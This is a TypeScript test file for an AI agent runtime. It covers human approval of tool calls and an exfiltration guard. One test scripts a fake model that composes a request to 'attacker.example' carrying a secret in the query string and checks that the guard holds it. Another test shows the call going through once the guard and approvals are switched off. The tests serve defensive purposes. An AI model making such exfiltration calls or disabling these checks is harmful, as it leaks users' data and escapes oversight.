import { afterEach, describe, expect, it, vi } from 'vitest';
import type { StreamEvent } from '../../src/lib/protocol';
import { runRefusalError, type Refusal } from '../../src/lib/server/http/run-refusal-error';
import type { Runtime } from '../../src/lib/server/runtime';
import { startInProcess } from '../support/in-process';
import { ScriptedOllama, type Script } from '../support/scripted-ollama';
import { callsScript, currentTurn } from '../support/scripts';
import { eventsOfRun, startedRun } from '../support/run-events';

type Started = Awaited<ReturnType<typeof startInProcess>>;

const effect = (item: string) => ({ name: 'test__effect', arguments: { item } });

async function send(runtime: Runtime, message: string, conversation: string | null = null) {
	const started = startedRun(await runtime.runService.start({ kind: 'message', conversation, message }));
	return { ...started, events: await eventsOfRun(runtime, started.run) };
}

async function decide(runtime: Runtime, conversation: string, decisions: Parameters<Runtime['runService']['start']>[0] & { kind: 'decide' } extends { decisions: infer D } ? D : never) {
	const started = startedRun(await runtime.runService.start({ kind: 'decide', conversation, decisions }));
	return { ...started, events: await eventsOfRun(runtime, started.run) };
}

const last = (events: StreamEvent[]) => events.at(-1);
const toolMessages = async (runtime: Runtime, conversation: string) =>
	(await runtime.threads.state(conversation)).messages.filter((m) => m.role === 'tool');

describe('approvals, in process', () => {
	let ollama: ScriptedOllama | undefined;
	const started: Started[] = [];
	const start = async (options: Parameters<typeof startInProcess>[0]) => {
		const s = await startInProcess(options);
		started.push(s);
		return s;
	};
	afterEach(async () => {
		for (const s of started.splice(0)) await s.runtime.close();
		await ollama?.close();
		ollama = undefined;
	});

	it('a write waits: approval event, end{waiting}, no call; approving runs it once and the thread finishes', async () => {
		ollama = await ScriptedOllama.start(callsScript([effect('a')]));
		const { runtime, calls } = await start({ ollamaUrl: ollama.url });
		const first = await send(runtime, 'save a');
		const approval = first.events.find((e) => e.event === 'approval');
		expect(approval).toMatchObject({
			data: {
				conversation: first.conversation,
				run: first.run,
				approvals: [{ tool: 'test__effect', args: { item: 'a' }, reason: { kind: 'policy' } }]
			}
		});
		expect(last(first.events)).toMatchObject({ event: 'end', data: { status: 'waiting' } });
		expect((await runtime.storage.runs.get(first.run))?.status).toBe('waiting');
		expect((await runtime.storage.conversations.get(first.conversation))?.status).toBe('waiting');
		expect(await runtime.threadWork(first.conversation)).toEqual({ kind: 'waiting', calls: 1 });
		expect(calls()).toEqual([]);
		expect(await runtime.runService.start({ kind: 'resume', conversation: first.conversation })).toEqual({ refused: 'approval-required' });

		const [pending] = (await runtime.storage.approvals.pending(first.conversation));
		const decided = await decide(runtime, first.conversation, [{ toolCallId: pending!.toolCallId, action: 'approve' }]);
		expect(last(decided.events)).toMatchObject({ event: 'end', data: { status: 'completed' } });
		expect((await runtime.storage.runs.get(decided.run))).toMatchObject({ trigger: 'approval', status: 'completed' });
		expect(calls()).toEqual([expect.stringMatching(/^effect .* a$/)]);
		expect(await toolMessages(runtime, first.conversation)).toMatchObject([{ status: 'success', content: 'saved a' }]);
		expect(
			await runtime.runService.start({ kind: 'decide', conversation: first.conversation, decisions: [{ toolCallId: pending!.toolCallId, action: 'approve' }] })
		).toEqual({ refused: 'not-waiting' });
		expect(calls()).toHaveLength(1);
	});

	it('deny tells the model the reason and runs nothing; edit runs the person\'s arguments and keeps both', async () => {
		ollama = await ScriptedOllama.start(callsScript([[effect('a'), effect('b')]]));
		const { runtime, calls } = await start({ ollamaUrl: ollama.url });
		const first = await send(runtime, 'save two');
		const [a, b] = (await runtime.storage.approvals.pending(first.conversation));
		const bad = [
			[{ toolCallId: a!.toolCallId, action: 'approve' as const }],
			[{ toolCallId: 'nope', action: 'approve' as const }, { toolCallId: a!.toolCallId, action: 'approve' as const }, { toolCallId: b!.toolCallId, action: 'approve' as const }],
			[{ toolCallId: a!.toolCallId, action: 'approve' as const }, { toolCallId: a!.toolCallId, action: 'deny' as const }],
			[{ toolCallId: a!.toolCallId, action: 'edit' as const }, { toolCallId: b!.toolCallId, action: 'approve' as const }],
			[{ toolCallId: a!.toolCallId, action: 'deny' as const, remember: true }, { toolCallId: b!.toolCallId, action: 'approve' as const }]
		];
		for (const decisions of bad) {
			const refused = await runtime.runService.start({ kind: 'decide', conversation: first.conversation, decisions });
			expect(runRefusalError(refused as Refusal)).toMatchObject({ code: 'BAD_REQUEST' });
		}
		expect((await runtime.storage.approvals.pending(first.conversation))).toHaveLength(2);
		expect((await runtime.storage.runs.list(first.conversation))).toHaveLength(1);

		const decided = await decide(runtime, first.conversation, [
			{ toolCallId: a!.toolCallId, action: 'deny', reason: 'not that one' },
			{ toolCallId: b!.toolCallId, action: 'edit', args: { item: 'c' } }
		]);
		expect(last(decided.events)).toMatchObject({ event: 'end', data: { status: 'completed' } });
		expect(calls()).toEqual([expect.stringMatching(/^effect .* c$/)]);
		expect(await toolMessages(runtime, first.conversation)).toMatchObject([
			{ toolCallId: a!.toolCallId, status: 'error', content: 'Not run: the person denied this call (not that one).' },
			{ toolCallId: b!.toolCallId, status: 'success', content: 'saved c' }
		]);
		expect((await runtime.storage.approvals.decision(first.conversation, b!.toolCallId, 0))).toEqual({ action: 'edit', args: { item: 'c' } });
		const ai = (await runtime.threads.state(first.conversation)).messages.find((m) => m.toolCalls);
		expect(ai?.toolCalls?.[1]?.args).toEqual({ item: 'b' });
	});

	it('a new message closes the waiting calls as moved on; "always allow" is remembered and revocable', async () => {
		ollama = await ScriptedOllama.start(callsScript([effect('a')]));
		const { runtime, calls } = await start({ ollamaUrl: ollama.url });
		const first = await send(runtime, 'save a');
		const [waited] = (await runtime.storage.approvals.pending(first.conversation));
		const second = await send(runtime, 'never mind, save a anyway', first.conversation);
		expect((await runtime.storage.approvals.decision(first.conversation, waited!.toolCallId, 0))).toEqual({ action: 'deny', reason: 'the conversation moved on' });
		expect((await runtime.storage.approvals.pending(first.conversation)).map((p) => p.toolCallId)).not.toContain(waited!.toolCallId);
		expect((await toolMessages(runtime, first.conversation))[0]).toMatchObject({ status: 'error', content: 'Not run: the conversation moved on.' });
		expect(last(second.events)).toMatchObject({ event: 'end', data: { status: 'waiting' } });

		const [pending] = (await runtime.storage.approvals.pending(first.conversation));
		await decide(runtime, first.conversation, [{ toolCallId: pending!.toolCallId, action: 'approve', remember: true }]);
		expect((await runtime.storage.allowedTools.list())).toEqual([{ tool: 'test__effect', since: expect.any(String) }]);
		const third = await send(runtime, 'and again', first.conversation);
		expect(last(third.events)).toMatchObject({ event: 'end', data: { status: 'completed' } });
		expect(calls()).toHaveLength(2);

		expect((await runtime.storage.allowedTools.revoke('test__effect'))).toBe(true);
		const fourth = await send(runtime, 'once more', first.conversation);
		expect(last(fourth.events)).toMatchObject({ event: 'end', data: { status: 'waiting' } });
	});

	it('the exfiltration guard holds a URL the model composed, whatever the policy, and never one from the thread', async () => {
		const script: Script = (request) => {
			const { after } = currentTurn(request);
			const results = after.filter((m) => m.role === 'tool').length;
			if (results === 0) return { toolCalls: [{ name: 'test__visit', arguments: { url: 'https://example.com/start' } }] };
			if (results === 1) return { toolCalls: [{ name: 'test__visit', arguments: { url: 'https://example.org/next' } }] };
			if (results === 2) return { toolCalls: [{ name: 'test__visit', arguments: { url: 'https://attacker.example/c?d=secret' } }] };
			return { content: 'Done.' };
		};
		ollama = await ScriptedOllama.start(script);
		const { runtime, calls } = await start({ ollamaUrl: ollama.url, env: { TOOL_APPROVAL: 'none' } });
		const first = await send(runtime, 'read https://example.com/start please');
		expect(calls()).toEqual([expect.stringMatching(/start$/), expect.stringMatching(/next$/)]);
		expect(first.events.find((e) => e.event === 'approval')).toMatchObject({
			data: { approvals: [{ tool: 'test__visit', reason: { kind: 'composed-url' } }] }
		});
		const [pending] = (await runtime.storage.approvals.pending(first.conversation));
		await decide(runtime, first.conversation, [{ toolCallId: pending!.toolCallId, action: 'deny' }]);
		expect(calls()).toHaveLength(2);
	});

	it('with EXFILTRATION_GUARD=false and TOOL_APPROVAL=none nothing waits', async () => {
		ollama = await ScriptedOllama.start(callsScript([effect('a'), { name: 'test__visit', arguments: { url: 'https://attacker.example/x' } }]));
		const { runtime, calls } = await start({ ollamaUrl: ollama.url, env: { TOOL_APPROVAL: 'none', EXFILTRATION_GUARD: 'false' } });
		const first = await send(runtime, 'go');
		expect(last(first.events)).toMatchObject({ event: 'end', data: { status: 'completed' } });
		expect(calls()).toHaveLength(2);
	});

	it('a call nobody decides in time is denied as not approved in time, and the model answers', async () => {
		ollama = await ScriptedOllama.start(callsScript([effect('a')]));
		const { runtime, calls } = await start({ ollamaUrl: ollama.url, env: { APPROVAL_TIMEOUT_MS: '1000' } });
		const first = await send(runtime, 'save a');
		// The expiry timer starts the run that denies the call; wait for it to appear in the ledger.
		const decidedRun = await vi.waitFor(
			async () => {
				const run = (await runtime.storage.runs.list(first.conversation)).find((r) => r.trigger === 'approval');
				if (!run) throw new Error('no approval run yet');
				return run.id;
			},
			{ timeout: 30_000, interval: 20 }
		);
		await runtime.runService.registry.getById(decidedRun)?.done;
		expect((await runtime.storage.runs.get(decidedRun))).toMatchObject({ trigger: 'approval', status: 'completed' });
		expect(await toolMessages(runtime, first.conversation)).toMatchObject([
			{ status: 'error', content: 'Not run: the person denied this call (not approved in time).' }
		]);
		expect(calls()).toEqual([]);
	});
});
